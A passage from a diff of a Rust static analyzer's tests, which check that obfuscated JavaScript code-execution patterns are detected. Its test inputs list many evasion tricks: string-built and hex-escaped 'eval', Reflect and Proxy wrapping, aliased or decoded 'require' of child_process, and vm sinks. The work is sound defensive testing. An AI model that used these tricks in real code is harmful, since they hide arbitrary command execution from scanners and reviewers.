+                // `fs.promises.readFile(path)`
+                "member_expression" => {
+                    let inner_object = object.child_by_field_name("object")?;
+                    let inner_property = object.child_by_field_name("property")?;
+                    inner_object.kind() == "identifier"
+                        && inner_object.utf8_text(source.as_bytes()).ok()? == "fs"
+                        && inner_property.utf8_text(source.as_bytes()).ok()? == "promises"
+                }
+                _ => false,
+            };
+            if !is_fs_object {
+                return None;
+            }
+
+            let args = node.child_by_field_name("arguments")?;
+            let path_arg = args.named_child(0)?;
+            let path_str = resolve_js_string_expr(path_arg, source, scope_tracker, 0)?;
+            lists.match_sensitive_file(&path_str).map(str::to_string)
+        }
+        _ => None,
+    }
+}
+
+impl Default for AstAnalyzer {
+    fn default() -> Self {
+        Self::new().expect("Failed to create default AST analyzer")
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::types::Severity;
+    use std::io::Write;
+    use tempfile::NamedTempFile;
+
+    fn create_temp_file(content: &str, ext: &str) -> NamedTempFile {
+        let mut file = tempfile::Builder::new().suffix(ext).tempfile().unwrap();
+        writeln!(file, "{}", content).unwrap();
+        file
+    }
+
+    #[test]
+    fn test_computed_access_detection() {
+        let mut analyzer = AstAnalyzer::new().unwrap();
+        let file = create_temp_file("window['eval']('alert(1)')", ".js");
+
+        let result = analyzer.analyze_file(file.path()).unwrap();
+        assert!(!result.findings.is_empty());
+        assert!(result.findings.iter().any(|f| f.rule_id == "AST-EXEC-001"));
+    }
+
+    #[test]
+    fn test_template_literal_computed_access_detection() {
+        let mut analyzer = AstAnalyzer::new().unwrap();
+        let file = create_temp_file("window[`ev${'al'}`]('alert(1)')", ".js");
+
+        let result = analyzer.analyze_file(file.path()).unwrap();
+        assert!(!result.findings.is_empty());
+        assert!(result.findings.iter().any(|f| f.rule_id == "AST-EXEC-001"));
+    }
+
+    #[test]
+    fn test_template_literal_nested_concat_computed_access_detection() {
+        let mut analyzer = AstAnalyzer::new().unwrap();
+        let file = create_temp_file("window[`${'e' + 'v'}al`]('alert(1)')", ".js");
+
+        let result = analyzer.analyze_file(file.path()).unwrap();
+        assert!(!result.findings.is_empty());
+        assert!(result.findings.iter().any(|f| f.rule_id == "AST-EXEC-001"));
+    }
+
+    #[test]
+    fn test_reflect_get_dangerous_function_detection() {
+        let mut analyzer = AstAnalyzer::new().unwrap();
+        let file = create_temp_file("Reflect.get(globalThis, 'eval')('alert(1)')", ".js");
+
+        let result = analyzer.analyze_file(file.path()).unwrap();
+        assert!(!result.findings.is_empty());
+        assert!(result.findings.iter().any(|f| f.rule_id == "AST-EXEC-017"
+            && f.metadata.get("api").map(String::as_str) == Some("Reflect.get")));
+    }
+
+    #[test]
+    fn test_reflect_get_concatenated_property_name_detection() {
+        let mut analyzer = AstAnalyzer::new().unwrap();
+        let file = create_temp_file("Reflect.get(globalThis, 'ev' + 'al')('alert(1)')", ".js");
+
+        let result = analyzer.analyze_file(file.path()).unwrap();
+        assert!(result.findings.iter().any(|f| f.rule_id == "AST-EXEC-017"));
+    }
+
+    #[test]
+    fn test_reflect_get_escaped_property_name_detection() {
+        let mut analyzer = AstAnalyzer::new().unwrap();
+        let file = create_temp_file(r#"Reflect.get(globalThis, "\x65\x76\x61\x6c")()"#, ".js");
+
+        let result = analyzer.analyze_file(file.path()).unwrap();
+        assert!(result.findings.iter().any(|f| f.rule_id == "AST-EXEC-017"));
+    }
+
+    #[test]
+    fn test_reflect_apply_direct_dangerous_function_detection() {
+        let mut analyzer = AstAnalyzer::new().unwrap();
+        let file = create_temp_file("Reflect.apply(eval, undefined, ['alert(1)'])", ".js");
+
+        let result = analyzer.analyze_file(file.path()).unwrap();
+        assert!(result.findings.iter().any(|f| f.rule_id == "AST-EXEC-017"
+            && f.metadata.get("api").map(String::as_str) == Some("Reflect.apply")));
+    }
+
+    #[test]
+    fn test_reflect_apply_aliased_dangerous_function_detection() {
+        let mut analyzer = AstAnalyzer::new().unwrap();
+        let file = create_temp_file(
+            r#"
+            const e = eval;
+            Reflect.apply(e, undefined, ['alert(1)']);
+            "#,
+            ".js",
+        );
+
+        let result = analyzer.analyze_file(file.path()).unwrap();
+        assert!(result.findings.iter().any(|f| f.rule_id == "AST-EXEC-017"));
+    }
+
+    #[test]
+    fn test_reflect_construct_dangerous_function_detection() {
+        let mut analyzer = AstAnalyzer::new().unwrap();
+        let file = create_temp_file("Reflect.construct(Function, ['return alert(1)'])", ".js");
+
+        let result = analyzer.analyze_file(file.path()).unwrap();
+        assert!(result.findings.iter().any(|f| f.rule_id == "AST-EXEC-017"
+            && f.metadata.get("api").map(String::as_str) == Some("Reflect.construct")));
+    }
+
+    #[test]
+    fn test_no_false_positive_for_safe_reflect_get() {
+        let mut analyzer = AstAnalyzer::new().unwrap();
+        let file = create_temp_file("Reflect.get(console, 'log')('hello')", ".js");
+
+        let result = analyzer.analyze_file(file.path()).unwrap();
+        assert!(!result.findings.iter().any(|f| f.rule_id == "AST-EXEC-017"));
+    }
+
+    #[test]
+    fn test_eval_call_indirection_detection() {
+        let mut analyzer = AstAnalyzer::new().unwrap();
+        let file = create_temp_file("eval.call(null, 'alert(1)')", ".js");
+
+        let result = analyzer.analyze_file(file.path()).unwrap();
+        assert!(result.findings.iter().any(|f| f.rule_id == "AST-EXEC-018"
+            && f.metadata.get("function").map(String::as_str) == Some("eval")));
+    }
+
+    #[test]
+    fn test_eval_apply_indirection_detection() {
+        let mut analyzer = AstAnalyzer::new().unwrap();
+        let file = create_temp_file("eval.apply(null, ['alert(1)'])", ".js");
+
+        let result = analyzer.analyze_file(file.path()).unwrap();
+        assert!(result.findings.iter().any(|f| f.rule_id == "AST-EXEC-018"));
+    }
+
+    #[test]
+    fn test_eval_bind_indirection_detection() {
+        let mut analyzer = AstAnalyzer::new().unwrap();
+        let file = create_temp_file("const run = eval.bind(null); run('alert(1)');", ".js");
+
+        let result = analyzer.analyze_file(file.path()).unwrap();
+        assert!(result.findings.iter().any(|f| f.rule_id == "AST-EXEC-018"));
+    }
+
+    #[test]
+    fn test_aliased_dangerous_function_call_indirection_detection() {
+        let mut analyzer = AstAnalyzer::new().unwrap();
+        let file = create_temp_file("const e = eval; e.call(null, 'alert(1)');", ".js");
+
+        let result = analyzer.analyze_file(file.path()).unwrap();
+        assert!(result.findings.iter().any(|f| f.rule_id == "AST-EXEC-018"));
+    }
+
+    #[test]
+    fn test_function_prototype_bind_call_chain_detection() {
+        let mut analyzer = AstAnalyzer::new().unwrap();
+        let file = create_temp_file("Function.prototype.bind.call(eval)('alert(1)')", ".js");
+
+        let result = analyzer.analyze_file(file.path()).unwrap();
+        assert!(result.findings.iter().any(|f| f.rule_id == "AST-EXEC-018"
+            && f.metadata.get("function").map(String::as_str) == Some("eval")));
+    }
+
+    #[test]
+    fn test_proxy_wrapped_dangerous_function_detection() {
+        let mut analyzer = AstAnalyzer::new().unwrap();
+        let file = create_temp_file("const p = new Proxy(eval, {}); p('alert(1)');", ".js");
+
+        let result = analyzer.analyze_file(file.path()).unwrap();
+        assert!(result.findings.iter().any(|f| f.rule_id == "AST-EXEC-018"
+            && f.metadata.get("technique").map(String::as_str) == Some("proxy_wrap")));
+    }
+
+    #[test]
+    fn test_no_false_positive_for_safe_call_indirection() {
+        let mut analyzer = AstAnalyzer::new().unwrap();
+        let file = create_temp_file("console.log.call(null, 'hello')", ".js");
+
+        let result = analyzer.analyze_file(file.path()).unwrap();
+        assert!(!result.findings.iter().any(|f| f.rule_id == "AST-EXEC-018"));
+    }
+
+    #[test]
+    fn test_no_false_positive_for_safe_proxy_wrap() {
+        let mut analyzer = AstAnalyzer::new().unwrap();
+        let file = create_temp_file("const p = new Proxy(console.log, {});", ".js");
+
+        let result = analyzer.analyze_file(file.path()).unwrap();
+        assert!(!result.findings.iter().any(|f| f.rule_id == "AST-EXEC-018"));
+    }
+
+    #[test]
+    fn test_with_statement_dangerous_global_detection() {
+        let mut analyzer = AstAnalyzer::new().unwrap();
+        let file = create_temp_file("with (window) { eval('alert(1)'); }", ".js");
+
+        let result = analyzer.analyze_file(file.path()).unwrap();
+        assert!(result.findings.iter().any(|f| f.rule_id == "AST-EXEC-019"
+            && f.metadata.get("technique").map(String::as_str) == Some("dangerous_global")));
+    }
+
+    #[test]
+    fn test_with_statement_inline_require_detection() {
+        let mut analyzer = AstAnalyzer::new().unwrap();
+        let file = create_temp_file("with (require('child_process')) { exec('ls'); }", ".js");
+
+        let result = analyzer.analyze_file(file.path()).unwrap();
+        assert!(result.findings.iter().any(|f| f.rule_id == "AST-EXEC-019"
+            && f.metadata.get("technique").map(String::as_str) == Some("inline_require")));
+    }
+
+    #[test]
+    fn test_with_statement_aliased_require_detection() {
+        let mut analyzer = AstAnalyzer::new().unwrap();
+        let file = create_temp_file(
+            "const cp = require('child_process'); with (cp) { exec('ls'); }",
+            ".js",
+        );
+
+        let result = analyzer.analyze_file(file.path()).unwrap();
+        assert!(result.findings.iter().any(|f| f.rule_id == "AST-EXEC-019"
+            && f.metadata.get("technique").map(String::as_str) == Some("required_module")));
+    }
+
+    #[test]
+    fn test_no_false_positive_for_safe_with_statement() {
+        let mut analyzer = AstAnalyzer::new().unwrap();
+        let file = create_temp_file("with (someConfigObject) { doThing(); }", ".js");
+
+        let result = analyzer.analyze_file(file.path()).unwrap();
+        assert!(!result.findings.iter().any(|f| f.rule_id == "AST-EXEC-019"));
+    }
+
+    #[test]
+    fn test_no_false_positive_for_safe_template_literal() {
+        let mut analyzer = AstAnalyzer::new().unwrap();
+        let file = create_temp_file("window[`lo${'g'}`]('hello')", ".js");
+
+        let result = analyzer.analyze_file(file.path()).unwrap();
+        assert!(!result.findings.iter().any(|f| f.rule_id == "AST-EXEC-001"));
+    }
+
+    #[test]
+    fn test_cross_statement_string_building_computed_access_detection() {
+        let mut analyzer = AstAnalyzer::new().unwrap();
+        let file = create_temp_file("let s = 'ev'; s += 'al'; window[s]('alert(1)');", ".js");
+
+        let result = analyzer.analyze_file(file.path()).unwrap();
+        let finding = result
+            .findings
+            .iter()
+            .find(|f| f.rule_id == "AST-EXEC-001")
+            .unwrap();
+        assert_eq!(
+            finding.metadata.get("function").map(String::as_str),
+            Some("eval")
+        );
+        assert_eq!(
+            finding.metadata.get("resolution").map(String::as_str),
+            Some("cross_statement_string_tracking")
+        );
+    }
+
+    #[test]
+    fn test_cross_statement_string_building_across_three_statements() {
+        let mut analyzer = AstAnalyzer::new().unwrap();
+        let file = create_temp_file(
+            "let s = 'e'; s += 'va'; s += 'l'; window[s]('alert(1)');",
+            ".js",
+        );
+
+        let result = analyzer.analyze_file(file.path()).unwrap();
+        assert!(result.findings.iter().any(|f| f.rule_id == "AST-EXEC-001"
+            && f.metadata.get("function").map(String::as_str) == Some("eval")));
+    }
+
+    #[test]
+    fn test_no_false_positive_for_string_building_to_safe_name() {
+        let mut analyzer = AstAnalyzer::new().unwrap();
+        let file = create_temp_file("let s = 'lo'; s += 'g'; window[s]('hello');", ".js");
+
+        let result = analyzer.analyze_file(file.path()).unwrap();
+        assert!(!result.findings.iter().any(|f| f.rule_id == "AST-EXEC-001"));
+    }
+
+    #[test]
+    fn test_reassignment_with_unresolvable_addend_does_not_stick_to_stale_value() {
+        let mut analyzer = AstAnalyzer::new().unwrap();
+        let file = create_temp_file(
+            "let s = 'ev'; s += getSuffix(); window[s]('alert(1)');",
+            ".js",
+        );
+
+        let result = analyzer.analyze_file(file.path()).unwrap();
+        assert!(!result.findings.iter().any(|f| f.rule_id == "AST-EXEC-001"));
+    }
+
+    #[test]
+    fn test_dynamic_import_variable_specifier_detection() {
+        let mut analyzer = AstAnalyzer::new().unwrap();
+        let file = create_temp_file("const mod = 'child_process'; import(mod);", ".js");
+
+        let result = analyzer.analyze_file(file.path()).unwrap();
+        assert!(!result.findings.is_empty());
+        assert!(result.findings.iter().any(|f| f.rule_id == "AST-EXEC-010"));
+    }
+
+    #[test]
+    fn test_dynamic_import_concatenated_specifier_detection() {
+        let mut analyzer = AstAnalyzer::new().unwrap();
+        let file = create_temp_file("import('child' + '_process');", ".js");
+
+        let result = analyzer.analyze_file(file.path()).unwrap();
+        assert!(!result.findings.is_empty());
+        let finding = result
+            .findings
+            .iter()
+            .find(|f| f.rule_id == "AST-EXEC-010")
+            .unwrap();
+        assert_eq!(
+            finding
+                .metadata
+                .get("resolved_specifier")
+                .map(String::as_str),
+            Some("child_process")
+        );
+    }
+
+    #[test]
+    fn test_no_false_positive_for_static_import_literal() {
+        let mut analyzer = AstAnalyzer::new().unwrap();
+        let file = create_temp_file("import('./config.js');", ".js");
+
+        let result = analyzer.analyze_file(file.path()).unwrap();
+        assert!(!result.findings.iter().any(|f| f.rule_id == "AST-EXEC-010"));
+    }
+
+    #[test]
+    fn test_require_variable_argument_detection() {
+        let mut analyzer = AstAnalyzer::new().unwrap();
+        let file = create_temp_file("const mod = 'child_process'; require(mod);", ".js");
+
+        let result = analyzer.analyze_file(file.path()).unwrap();
+        let finding = result
+            .findings
+            .iter()
+            .find(|f| f.rule_id == "AST-EXEC-011")
+            .unwrap();
+        assert_eq!(finding.severity, Severity::High);
+        assert_eq!(
+            finding.metadata.get("resolved_module").map(String::as_str),
+            Some("child_process")
+        );
+    }
+
+    #[test]
+    fn test_require_concatenated_argument_detection() {
+        let mut analyzer = AstAnalyzer::new().unwrap();
+        let file = create_temp_file("require('child' + '_process');", ".js");
+
+        let result = analyzer.analyze_file(file.path()).unwrap();
+        let finding = result
+            .findings
+            .iter()
+            .find(|f| f.rule_id == "AST-EXEC-011")
+            .unwrap();
+        assert_eq!(finding.severity, Severity::High);
+    }
+
+    #[test]
+    fn test_require_array_index_argument_detection() {
+        let mut analyzer = AstAnalyzer::new().unwrap();
+        let file = create_temp_file(
+            "const mods = ['fs', 'child_process']; require(mods[1]);",
+            ".js",
+        );
+
+        let result = analyzer.analyze_file(file.path()).unwrap();
+        let finding = result
+            .findings
+            .iter()
+            .find(|f| f.rule_id == "AST-EXEC-011")
+            .unwrap();
+        assert_eq!(
+            finding.metadata.get("resolved_module").map(String::as_str),
+            Some("child_process")
+        );
+    }
+
+    #[test]
+    fn test_require_decoded_argument_detection() {
+        let mut analyzer = AstAnalyzer::new().unwrap();
+        let file = create_temp_file("require(atob(encoded));", ".js");
+
+        let result = analyzer.analyze_file(file.path()).unwrap();
+        assert!(result.findings.iter().any(|f| f.rule_id == "AST-EXEC-011"));
+    }
+
+    #[test]
+    fn test_require_unresolvable_argument_is_medium_severity() {
+        let mut analyzer = AstAnalyzer::new().unwrap();
+        let file = create_temp_file("require(userInput);", ".js");
+
+        let result = analyzer.analyze_file(file.path()).unwrap();
+        let finding = result
+            .findings
+            .iter()
+            .find(|f| f.rule_id == "AST-EXEC-011")
+            .unwrap();
+        assert_eq!(finding.severity, Severity::Medium);
+    }
+
+    #[test]
+    fn test_no_false_positive_for_static_require_literal() {
+        let mut analyzer = AstAnalyzer::new().unwrap();
+        let file = create_temp_file("require('fs');", ".js");
+
+        let result = analyzer.analyze_file(file.path()).unwrap();
+        assert!(!result.findings.iter().any(|f| f.rule_id == "AST-EXEC-011"));
+    }
+
+    #[test]
+    fn test_function_constructor_malicious_body_detection() {
+        let mut analyzer = AstAnalyzer::new().unwrap();
+        let file = create_temp_file(
+            r#"new Function('return require("child_process").exec("whoami")');"#,
+            ".js",
+        );
+
+        let result = analyzer.analyze_file(file.path()).unwrap();
+        let finding = result
+            .findings
+            .iter()
+            .find(|f| f.rule_id == "AST-EXEC-012")
+            .unwrap();
+        assert_eq!(finding.severity, Severity::Critical);
+    }
+
+    #[test]
+    fn test_function_constructor_concatenated_body_detection() {
+        let mut analyzer = AstAnalyzer::new().unwrap();
+        let file = create_temp_file(
+            r#"new Function('a', 'return ' + 'require("child_process").exec(a)');"#,
+            ".js",
+        );
+
+        let result = analyzer.analyze_file(file.path()).unwrap();
+        assert!(result.findings.iter().any(|f| f.rule_id == "AST-EXEC-012"));
+    }
+
+    #[test]
+    fn test_no_false_positive_for_safe_function_constructor_body() {
+        let mut analyzer = AstAnalyzer::new().unwrap();
+        let file = create_temp_file(r#"new Function('a', 'b', 'return a + b');"#, ".js");
+
+        let result = analyzer.analyze_file(file.path()).unwrap();
+        assert!(!result.findings.iter().any(|f| f.rule_id == "AST-EXEC-012"));
+    }
+
+    #[test]
+    fn test_no_finding_for_non_literal_function_constructor_body() {
+        let mut analyzer = AstAnalyzer::new().unwrap();
+        let file = create_temp_file("new Function(userInput);", ".js");
+
+        let result = analyzer.analyze_file(file.path()).unwrap();
+        assert!(!result.findings.iter().any(|f| f.rule_id == "AST-EXEC-012"));
+    }
+
+    #[test]
+    fn test_vm_misuse_aliased_import_detection() {
+        let mut analyzer = AstAnalyzer::new().unwrap();
+        let file = create_temp_file(
+            "const sandbox = require('vm'); sandbox.runInThisContext(payload);",
+            ".js",
+        );
+
+        let result = analyzer.analyze_file(file.path()).unwrap();
+        let finding = result
+            .findings
+            .iter()
+            .find(|f| f.rule_id == "AST-EXEC-013")
+            .unwrap();
+        assert_eq!(finding.severity, Severity::High);
+        assert_eq!(
+            finding.metadata.get("technique").map(String::as_str),
+            Some("aliased_import")
+        );
+        assert_eq!(
+            finding.metadata.get("sink").map(String::as_str),
+            Some("vm.runInThisContext")
+        );
+    }
+
+    #[test]
+    fn test_vm_misuse_destructured_import_detection() {
+        let mut analyzer = AstAnalyzer::new().unwrap();
+        let file = create_temp_file(
+            "const { runInThisContext } = require('vm'); runInThisContext(payload);",
+            ".js",
+        );
+
+        let result = analyzer.analyze_file(file.path()).unwrap();
+        let finding = result
+            .findings
+            .iter()
+            .find(|f| f.rule_id == "AST-EXEC-013")
+            .unwrap();
+        assert_eq!(
+            finding.metadata.get("technique").map(String::as_str),
+            Some("destructured_import")
+        );
+    }
+
+    #[test]
+    fn test_vm_misuse_destructured_import_alias_detection() {
+        let mut analyzer = AstAnalyzer::new().unwrap();
+        let file = create_temp_file(
+            "const { runInThisContext: run } = require('vm'); run(payload);",
+            ".js",
+        );
+
+        let result = analyzer.analyze_file(file.path()).unwrap();
+        let finding = result
+            .findings
+            .iter()
+            .find(|f| f.rule_id == "AST-EXEC-013")
+            .unwrap();
+        assert_eq!(
+            finding.metadata.get("sink").map(String::as_str),
+            Some("vm.runInThisContext")
+        );
+    }
+
+    #[test]
+    fn test_vm_misuse_decoded_source_is_critical_severity() {
+        let mut analyzer = AstAnalyzer::new().unwrap();
+        let file = create_temp_file(
+            "const sandbox = require('vm'); const code = atob(data); sandbox.runInThisContext(code);",
+            ".js",
+        );
+
+        let result = analyzer.analyze_file(file.path()).unwrap();
+        let finding = result
+            .findings
+            .iter()
+            .find(|f| f.rule_id == "AST-EXEC-013")
+            .unwrap();
+        assert_eq!(finding.severity, Severity::Critical);
+    }
+
+    #[test]
+    fn test_vm_misuse_direct_dynamic_source_detection() {
+        let mut analyzer = AstAnalyzer::new().unwrap();
+        let file = create_temp_file("vm.runInThisContext(payload);", ".js");
+
+        let result = analyzer.analyze_file(file.path()).unwrap();
+        assert!(result.findings.iter().any(|f| f.rule_id == "AST-EXEC-013"));
+    }
+
+    #[test]
+    fn test_vm_misuse_new_script_via_destructured_import_detection() {
+        let mut analyzer = AstAnalyzer::new().unwrap();
+        let file = create_temp_file(
+            "const { Script } = require('vm'); new Script(payload);",
+            ".js",
+        );
+
+        let result = analyzer.analyze_file(file.path()).unwrap();
+        let finding = result
+            .findings
+            .iter()
+            .find(|f| f.rule_id == "AST-EXEC-013")
+            .unwrap();
+        assert_eq!(
+            finding.metadata.get("sink").map(String::as_str),
+            Some("vm.Script")
+        );
+    }
+
+    #[test]
+    fn test_no_false_positive_for_direct_vm_call_with_literal_source() {
+        let mut analyzer = AstAnalyzer::new().unwrap();
+        let file = create_temp_file("vm.runInThisContext('return 1');", ".js");
+
+        let result = analyzer.analyze_file(file.path()).unwrap();
+        assert!(!result.findings.iter().any(|f| f.rule_id == "AST-EXEC-013"));
+    }
+
+    #[test]
+    fn test_process_binding_direct_detection() {
+        let mut analyzer = AstAnalyzer::new().unwrap();
+        let file = create_temp_file("process.binding('spawn_sync');", ".js");
+
+        let result = analyzer.analyze_file(file.path()).unwrap();
+        let finding = result
+            .findings
+            .iter()
+            .find(|f| f.rule_id == "AST-EXEC-014")
+            .unwrap();
+        assert_eq!(finding.severity, Severity::Critical);
+        assert_eq!(
+            finding.metadata.get("technique").map(String::as_str),
+            Some("direct")
+        );
+        assert_eq!(
+            finding.metadata.get("sink").map(String::as_str),
+            Some("process.binding")
+        );
+        assert_eq!(
+            finding.metadata.get("argument").map(String::as_str),
+            Some("spawn_sync")
+        );
+    }
+
+    #[test]
+    fn test_process_dlopen_aliased_global_detection() {
+        let mut analyzer = AstAnalyzer::new().unwrap();
+        let file = create_temp_file("const p = process; p.dlopen(module, path);", ".js");
+
+        let result = analyzer.analyze_file(file.path()).unwrap();
+        let finding = result
+            .findings
+            .iter()
+            .find(|f| f.rule_id == "AST-EXEC-014")
+            .unwrap();
+        assert_eq!(
+            finding.metadata.get("technique").map(String::as_str),
+            Some("aliased_global")
+        );
+        assert_eq!(
+            finding.metadata.get("sink").map(String::as_str),
+            Some("process.dlopen")
+        );
+    }
+
+    #[test]
+    fn test_module_load_inline_require_detection() {
+        let mut analyzer = AstAnalyzer::new().unwrap();
+        let file = create_temp_file("require('module')._load('fs', null, false);", ".js");
+
+        let result = analyzer.analyze_file(file.path()).unwrap();
+        let finding = result
+            .findings
+            .iter()
+            .find(|f| f.rule_id == "AST-EXEC-014")
+            .unwrap();
+        assert_eq!(
+            finding.metadata.get("technique").map(String::as_str),
+            Some("inline_require")
+        );
+        assert_eq!(
+            finding.metadata.get("sink").map(String::as_str),
+            Some("module._load")
+        );
+    }
+
+    #[test]
+    fn test_module_load_aliased_import_detection() {
+        let mut analyzer = AstAnalyzer::new().unwrap();
+        let file = create_temp_file(
+            "const Module = require('module'); Module._load('fs', null, false);",
+            ".js",
+        );
+
+        let result = analyzer.analyze_file(file.path()).unwrap();
+        assert!(result.findings.iter().any(|f| f.rule_id == "AST-EXEC-014"
+            && f.metadata.get("technique").map(String::as_str) == Some("aliased_import")));
+    }
+
+    #[test]
+    fn test_module_load_destructured_import_detection() {
+        let mut analyzer = AstAnalyzer::new().unwrap();
+        let file = create_temp_file(
+            "const { _load } = require('module'); _load('fs', null, false);",
+            ".js",
+        );
+
+        let result = analyzer.analyze_file(file.path()).unwrap();
+        assert!(result.findings.iter().any(|f| f.rule_id == "AST-EXEC-014"
+            && f.metadata.get("technique").map(String::as_str) == Some("destructured_import")));
+    }
+
+    #[test]
+    fn test_no_finding_for_unrelated_process_and_module_calls() {
+        let mut analyzer = AstAnalyzer::new().unwrap();
+        let file = create_temp_file(
+            "process.exit(1); const m = require('module'); m.createRequire(import.meta.url);",
+            ".js",
+        );
+
+        let result = analyzer.analyze_file(file.path()).unwrap();
+        assert!(!result.findings.iter().any(|f| f.rule_id == "AST-EXEC-014"));
+    }
+
+    #[test]
+    fn test_cross_file_alias_of_reexported_dangerous_function_detected() {
+        let tmp = tempfile::TempDir::new().unwrap();
+        let root = tmp.path();
+        std::fs::write(root.join("plugin-a.js"), "export const run = exec;").unwrap();
+        let importer = root.join("plugin-b.js");
+        std::fs::write(
+            &importer,
+            "const { run } = require('./plugin-a');\nrun(userInput);",
+        )
+        .unwrap();
+
+        let analyzer = AstAnalyzer::new().unwrap();
+        let components = vec![
+            crate::adapters::DiscoveredComponent {
+                path: root.join("plugin-a.js"),
+                component_type: crate::adapters::ComponentType::Plugin,
+                name: "plugin-a.js".to_string(),
+            },
+            crate::adapters::DiscoveredComponent {
+                path: importer.clone(),
+                component_type: crate::adapters::ComponentType::Plugin,
+                name: "plugin-b.js".to_string(),
+            },
+        ];
+        analyzer.set_module_graph(analyzer.build_module_graph(&components));
+
+        let result = analyzer.analyze_file(&importer).unwrap();
+        assert!(result.findings.iter().any(|f| f.rule_id == "AST-EXEC-015"
+            && f.metadata.get("dangerous_function").map(String::as_str) == Some("exec")));
+    }
+
+    #[test]
+    fn test_no_cross_file_alias_finding_without_module_graph() {
+        let tmp = tempfile::TempDir::new().unwrap();
+        let root = tmp.path();
+        std::fs::write(root.join("plugin-a.js"), "export const run = exec;").unwrap();
+        let importer = root.join("plugin-b.js");
+        std::fs::write(
+            &importer,
+            "const { run } = require('./plugin-a');\nrun(userInput);",
+        )
+        .unwrap();
+
+        // No build_module_graph()/set_module_graph() call: the graph stays
+        // empty, so the import can't be traced back to a dangerous re-export.
+        let analyzer = AstAnalyzer::new().unwrap();
+        let result = analyzer.analyze_file(&importer).unwrap();
+        assert!(!result.findings.iter().any(|f| f.rule_id == "AST-EXEC-015"));
+    }
+
+    #[test]
+    fn test_variable_aliasing_detection() {
+        let mut analyzer = AstAnalyzer::new().unwrap();
+        let file = create_temp_file(
+            r#"
+            const e = eval;
+            e('alert(1)');
+            "#,
+            ".js",
+        );
+
+        let result = analyzer.analyze_file(file.path()).unwrap();
+        assert!(!result.findings.is_empty());
+        assert!(result.findings.iter().any(|f| f.rule_id == "AST-EXEC-002"));
+    }
+
+    #[test]
+    fn test_variable_aliasing_reassignment_inside_block_detected() {
+        // `f` is declared safe, then reassigned to `eval` inside an `if`
+        // block. The block is a scope boundary in the tracker even though
+        // it isn't a real JS scope, so the reassignment must still be
+        // visible to the call after the block exits.
+        let mut analyzer = AstAnalyzer::new().unwrap();
+        let file = create_temp_file(
+            r#"
+            let f = console.log;
+            if (Math.random() > 0.5) {
+                f = eval;
+            }
+            f('alert(1)');
+            "#,
+            ".js",
+        );
+
+        let result = analyzer.analyze_file(file.path()).unwrap();
+        assert!(result.findings.iter().any(|f| f.rule_id == "AST-EXEC-002"));
+    }
+
+    #[test]
+    fn test_variable_aliasing_no_finding_for_safely_reassigned_name() {
+        // `f` starts as an alias for `eval` but is reassigned to a safe
+        // function before being called; the call site must not fire.
+        let mut analyzer = AstAnalyzer::new().unwrap();
+        let file = create_temp_file(
+            r#"
+            let f = eval;
+            f = console.log;
+            f('hello');
+            "#,
+            ".js",
+        );
+
+        let result = analyzer.analyze_file(file.path()).unwrap();
+        assert!(!result.findings.iter().any(|f| f.rule_id == "AST-EXEC-002"));
+    }
+
+    #[test]
+    fn test_string_concat_detection() {
+        let mut analyzer = AstAnalyzer::new().unwrap();
+        let file = create_temp_file("window['ev' + 'al']('alert(1)')", ".js");
+
+        let result = analyzer.analyze_file(file.path()).unwrap();
+        assert!(!result.findings.is_empty());
+        assert!(result.findings.iter().any(|f| f.rule_id == "AST-EXEC-003"));
+    }
+
+    #[test]
+    fn test_array_reverse_join_detection() {
+        let mut analyzer = AstAnalyzer::new().unwrap();
+        let file = create_temp_file(
+            "window[['l', 'a', 'v', 'e'].reverse().join('')]('alert(1)')",
+            ".js",
+        );
+
+        let result = analyzer.analyze_file(file.path()).unwrap();
+        assert!(!result.findings.is_empty());
+        assert!(result.findings.iter().any(|f| f.rule_id == "AST-EXEC-003"));
+    }
+
+    #[test]
+    fn test_string_split_reverse_join_detection() {
+        let mut analyzer = AstAnalyzer::new().unwrap();
+        let file = create_temp_file(
+            "window['lave'.split('').reverse().join('')]('alert(1)')",
+            ".js",
+        );
+
+        let result = analyzer.analyze_file(file.path()).unwrap();
+        assert!(!result.findings.is_empty());
+        assert!(result.findings.iter().any(|f| f.rule_id == "AST-EXEC-003"));
+    }
+
+    #[test]
+    fn test_no_false_positive_for_safe_array_join() {
+        let mut analyzer = AstAnalyzer::new().unwrap();
+        let file = create_temp_file("window[['l', 'o', 'g'].reverse().join('')]('hello')", ".js");
+
+        let result = analyzer.analyze_file(file.path()).unwrap();
+        assert!(!result.findings.iter().any(|f| f.rule_id == "AST-EXEC-003"));
+    }
+
+    #[test]
+    fn test_no_false_positive_for_non_empty_join_separator() {
+        let mut analyzer = AstAnalyzer::new().unwrap();
+        let file = create_temp_file(
+            "window[['e', 'v', 'a', 'l'].reverse().join(',')]('alert(1)')",
+            ".js",
+        );
+
+        let result = analyzer.analyze_file(file.path()).unwrap();
+        assert!(!result.findings.iter().any(|f| f.rule_id == "AST-EXEC-003"));
+    }
+
+    #[test]
+    fn test_comma_operator_detection() {
+        let mut analyzer = AstAnalyzer::new().unwrap();
+        let file = create_temp_file("(0, eval)('alert(1)')", ".js");
+
+        let result = analyzer.analyze_file(file.path()).unwrap();
+        assert!(!result.findings.is_empty());
+        assert!(result.findings.iter().any(|f| f.rule_id == "AST-EXEC-005"));
+    }
+
+    #[test]
+    fn test_escape_sequence_detection() {
+        let mut analyzer = AstAnalyzer::new().unwrap();
+        // \x65\x76\x61\x6c = "eval"
+        let file = create_temp_file(r#"window["\x65\x76\x61\x6c"]('alert(1)')"#, ".js");
+
+        let result = analyzer.analyze_file(file.path()).unwrap();
+        assert!(!result.findings.is_empty());
+        assert!(result.findings.iter().any(|f| f.rule_id == "AST-EXEC-004"));
+    }
+
+    #[test]
+    fn test_destructured_alias_detection() {
+        let mut analyzer = AstAnalyzer::new().unwrap();
+        let file = create_temp_file(
+            r#"const {exec: run} = require('child_process'); run('ls')"#,
+            ".js",
+        );
+
+        let result = analyzer.analyze_file(file.path()).unwrap();
         assert!(!result.findings.is_empty());
-        assert!(result.findings.iter().any(|f| f.rule_id == "AST-EXEC-005"));
+        assert!(result.findings.iter().any(|f| f.rule_id == "AST-SHELL-001"));
     }
 
     #[test]
-    fn test_escape_sequence_detection() {
+    fn test_require_member_access_inline_concat_detection() {
         let mut analyzer = AstAnalyzer::new().unwrap();
-        // \x65\x76\x61\x6c = "eval"
-        let file = create_temp_file(r#"window["\x65\x76\x61\x6c"]('alert(1)')"#, ".js");
+        let file = create_temp_file(r#"require('child_process')['ex' + 'ec']('ls')"#, ".js");
 
         let result = analyzer.analyze_file(file.path()).unwrap();
